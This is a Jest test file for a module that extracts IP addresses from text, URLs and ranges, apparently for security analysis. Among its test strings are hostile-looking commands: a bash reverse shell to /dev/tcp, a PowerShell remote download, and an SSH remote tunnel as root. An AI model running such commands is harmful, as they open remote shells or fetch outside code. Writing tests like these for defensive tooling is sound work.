import { addressesInText, addressOfUrl, isAddress, isRange } from '../../src/domain/ip-in-text';

describe('addresses in text', () => {
  it.each([
    ['powershell -c "iwr http://203.0.113.7:8080/a"', ['203.0.113.7']],
    ['bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', ['10.0.0.1']],
    ['net use \\\\192.168.7.9\\c$', ['192.168.7.9']],
    ['ssh -R 80:[2001:db8::7]:80 root@198.51.100.4', ['198.51.100.4', '2001:db8::7']],
    ['curl http://0x7f000001/', ['127.0.0.1']],
    ['ping -n 3 8.8.8.8, 9.9.9.9', ['8.8.8.8', '9.9.9.9']],
    ['setup.exe --version 16.0.1.2', []],
    ['C:\\Office\\16.0.1.2\\word.exe', []],
    ['/opt/app/1.2.3.4/bin/run', []],
    ['at 12:30:45 run 1.2.3.4.5 and 999.1.1.1', []],
  ])('finds those in %j', (text, expected) => {
    expect(addressesInText(text).toSorted()).toEqual(expected.toSorted());
  });

  it.each([
    ['https://[2001:db8::1]/x', '2001:db8::1'],
    ['203.0.113.7/login', '203.0.113.7'],
    ['http://user@203.0.113.7:81/', '203.0.113.7'],
    ['https://203.0.113.7.example.com/', undefined],
    ['contoso.com', undefined],
    ['12345', undefined],
  ])('reads the host of %j as %j', (url, expected) => {
    expect(addressOfUrl(url)).toBe(expected);
  });

  it('tells addresses and ranges from other strings', () => {
    expect(['10.0.0.1', '[::1]:443', 'fe80::1%eth0'].every(isAddress)).toBe(true);
    expect(['4.5', 'a:b', '12:30', '2026-11-20', 'add.bad'].some(isAddress)).toBe(false);
    expect(['10.0.0.0/8', '10.0.0.1-10.0.0.9'].every(isRange)).toBe(true);
    expect(['10.0.0.1', 'a-b', '10.0.0.1-'].some(isRange)).toBe(false);
  });
});
